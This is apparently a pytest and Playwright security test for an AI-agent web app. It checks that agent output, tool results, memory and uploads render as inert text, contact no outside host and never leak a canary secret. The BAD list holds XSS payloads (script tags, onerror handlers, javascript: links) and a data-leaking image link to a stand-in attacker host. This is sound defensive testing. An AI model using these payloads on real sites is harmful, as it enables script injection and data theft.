"""What documents, tools and models may say, on every page of the real app: it is shown as text. Nothing of it runs, nothing
is asked of another host (`visit` fails the test then), and no secret of the environment stands anywhere.

The home is filled by the real service with a scripted agent; the page is the app's, with its own agent.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from agents.base import Write
from runs.service import Groundwork
from runs.settings import Settings
from runs.types import Upload
from tests.browser.conftest import served
from tests.browser.test_page import no_sideways_scroll, settled
from tests.fakes import ScriptedAgent, plan, step
from tests.runs.conftest import to_the_end
from tools.base import ToolContext, ToolFailed, ToolResult, source, tool

CANARY = "canary-5f1e-7a09-c4d2"
HOST = "http://evil.example"
BAD = [
    f"![pixel]({HOST}/a.png?q=secret)", f"[click]({HOST}/b)", "[run](javascript:window.__ran=1)",
    "[data](data:text/html,<script>window.__ran=1</script>)", f"<img src={HOST}/c.png onerror=window.__ran=1>",
    "<script>window.__ran=1</script>", f"<iframe src={HOST}/d></iframe>", f"<style>@import '{HOST}/e.css';</style>",
    f"<svg onload=window.__ran=1><image href={HOST}/f.png /></svg>", f'<div style="background:url({HOST}/g.png)">x</div>',
    ":material/skull:", ":red[in red]", ":smile:", "$\\frac{1}{2}$ $$x^2$$", "\u202etxet denrut\u202c zero\u200bwidth",
    f"<{HOST}/h> {HOST}/i", '" onmouseover="window.__ran=1" x="', f"[ref]: {HOST}/j", "`code` **bold** # head | a | b |",
    f"```mermaid\ngraph TD; A[<img src={HOST}/k.png>]\n```", "&lt;img src=x onerror=window.__ran=1&gt;", "\x1b[31m\x07 {told} {{x}}",
]  # fmt: skip
TEXT = " ".join(BAD)
HUGE = "W" * 20_000 + " " + "many words " * 5_000


@tool(risk="read")
def look(ctx: ToolContext, place: str) -> ToolResult:
    """Look at a place."""
    told = source(TEXT[:180], TEXT, locator=f"{HOST}/page {TEXT[:80]}", trust="external")
    return ToolResult(f"{TEXT} {CANARY} {HUGE}", {"value": TEXT, "rows": [{TEXT[:60]: TEXT}]}, [told])


@tool(risk="read")
def fail(ctx: ToolContext, place: str) -> ToolResult:
    """Fail."""
    raise ToolFailed(f"{TEXT} {CANARY}")


@tool(risk="read")
def broken(ctx: ToolContext) -> ToolResult:
    """Have a fault."""
    raise RuntimeError(f"{TEXT} {CANARY}")


@tool(risk="external")
def send(ctx: ToolContext, to: str, text: str) -> ToolResult:
    """Send something."""
    return ToolResult("sent", {})


def hostile(id: str, name: str, needs: Any = (), **args: Any) -> Any:
    return {**step(id, name, needs, **args), "title": f"{id} {TEXT}", "reason": TEXT}


def fill(home: Path) -> dict[str, str]:
    """One run of each kind; returns their threads."""
    looked = hostile("s1", "look", place=TEXT)
    plans = [
        plan(looked, hostile("s2", "fail", place=TEXT), hostile("s3", "", ["s1", "s2"]), note=TEXT),
        plan(looked, hostile("s2", "send", ["s1"], to=f"{TEXT} {CANARY}", text=HUGE), hostile("s3", "", ["s2"]), note=TEXT),
        plan(hostile("s1", "broken"), hostile("s2", "", ["s1"]), note=TEXT),
        plan(looked, hostile("s2", "send", ["s1"], to=TEXT, text=TEXT), hostile("s3", "", ["s2"]), note=TEXT),
    ]  # fmt: skip
    answer = Write(f"{TEXT} [s1.1]\n\n{CANARY} says 99,999.\n\n" + "\n\n".join(BAD) + "\n\n" + HUGE)
    agent: Any = ScriptedAgent(plans, {"s3": [answer] * 3, "s2": [answer] * 2})
    g = Groundwork.open(Settings(home), agent, {t.name: t for t in (look, fail, broken, send)})
    try:
        g.memory("local").remember(f"My note: {TEXT[:900]}", "f:1")
        name = f"{TEXT[:60]}.txt".replace("/", "_")
        threads = {}
        for kind in ("done", "approval", "failed", "review"):
            if kind == "review":
                g.steering.choose_review("local", "always")
            files = [Upload(name, f"{TEXT}\n\n{HUGE[:3_000]}".encode())] if kind == "done" else []
            run = to_the_end(g, "local", g.submit("local", f"{kind} {TEXT}", "", files))
            threads[kind] = run.thread
            assert run.status == {"done": "done", "failed": "failed"}.get(kind, "waiting"), run
        for n in ("local",):
            for form in ("jsonl", "csv"):
                assert CANARY not in g.control.audit_export(n, form)
    finally:
        g.close()
    return threads


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def threads(home: Path) -> Iterator[dict[str, str]]:
    os.environ["FORUM_API_KEY"] = CANARY
    try:
        with ThreadPoolExecutor(1) as apart:  # from the loop that Playwright keeps running in this thread
            yield apart.submit(fill, home / "groundwork").result()
    finally:
        del os.environ["FORUM_API_KEY"]


@pytest.fixture(scope="module")
def app(home: Path, threads: dict[str, str]) -> Iterator[str]:
    with served(home) as url:
        yield url


LOOK = """() => {
  const dom = document.documentElement.outerHTML, all = [...document.querySelectorAll('*')]
  const bad = all.filter(e => [...e.attributes].some(a =>
    (a.name.startsWith('on') && /__ran/.test(a.value)) || (/^(href|src|action|data)$/.test(a.name) && /^\\s*(javascript|data:text)/i.test(a.value))))
  const elsewhere = all.filter(e => e.src && !/^(data:|blob:|about:)/.test(e.src) && new URL(e.src).host !== location.host)
  return {ran: window.__ran ?? 0, bad: bad.map(e => e.outerHTML.slice(0, 200)), elsewhere: elsewhere.map(e => e.outerHTML.slice(0, 200)),
    frames: document.querySelectorAll('iframe').length, formulas: document.querySelectorAll('.katex').length,
    turned: /[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText), red: document.querySelectorAll('.stMarkdownColoredText').length,
    skull: all.filter(e => e.dataset?.testid === 'stIconMaterial' && e.textContent.trim() === 'skull').length, canary: dom.includes('%s')}
}""".replace("%s", CANARY)
CLEAN = {"ran": 0, "bad": [], "elsewhere": [], "frames": 0, "formulas": 0, "turned": False, "red": 0, "skull": 0, "canary": False}  # fmt: skip


def everything_opened(page: Any) -> None:
    """Each fold of the page, also those that are drawn when another is opened."""
    settled(page)
    folded = page.locator(".stMain details:not([open]) > summary:visible")
    for _ in range(40):
        if not folded.count():
            return
        try:
            folded.first.click(timeout=5_000)
        except PlaywrightTimeout:
            continue  # it was drawn anew at this moment
        page.wait_for_timeout(200)
    settled(page)


@pytest.mark.parametrize("kind", ["done", "approval", "failed", "review"])
def test_a_conversation_shows_it_as_text(visit: Any, threads: dict[str, str], kind: str) -> None:
    page = visit(f"/?thread={threads[kind]}")
    page.locator(".gw-goal").first.wait_for()
    everything_opened(page)
    assert page.evaluate(LOOK) == CLEAN
    assert no_sideways_scroll(page)
    assert "javascript:window.__ran=1" in page.locator(".stMain").inner_text()  # it is there, as text


@pytest.mark.parametrize("path", ["waiting", "memory", "audit", "settings", "admin"])
def test_a_page_shows_it_as_text(visit: Any, path: str) -> None:
    page = visit(f"/{path}")
    page.locator(".stMain h1, .stMain h2").first.wait_for()
    everything_opened(page)
    assert page.evaluate(LOOK) == CLEAN
    assert no_sideways_scroll(page)


def test_no_secret_stands_in_a_log_an_event_or_an_export(home: Path, threads: dict[str, str]) -> None:
    for log in (home / "app.log", *home.rglob("*.log")):
        assert CANARY not in log.read_text(errors="replace"), log
    with sqlite3.connect(home / "groundwork" / "groundwork.sqlite3") as c:
        for table in ("event", "audit", "run", "thread", "review"):
            assert CANARY not in json.dumps(c.execute(f"SELECT * FROM {table}").fetchall(), default=str), table
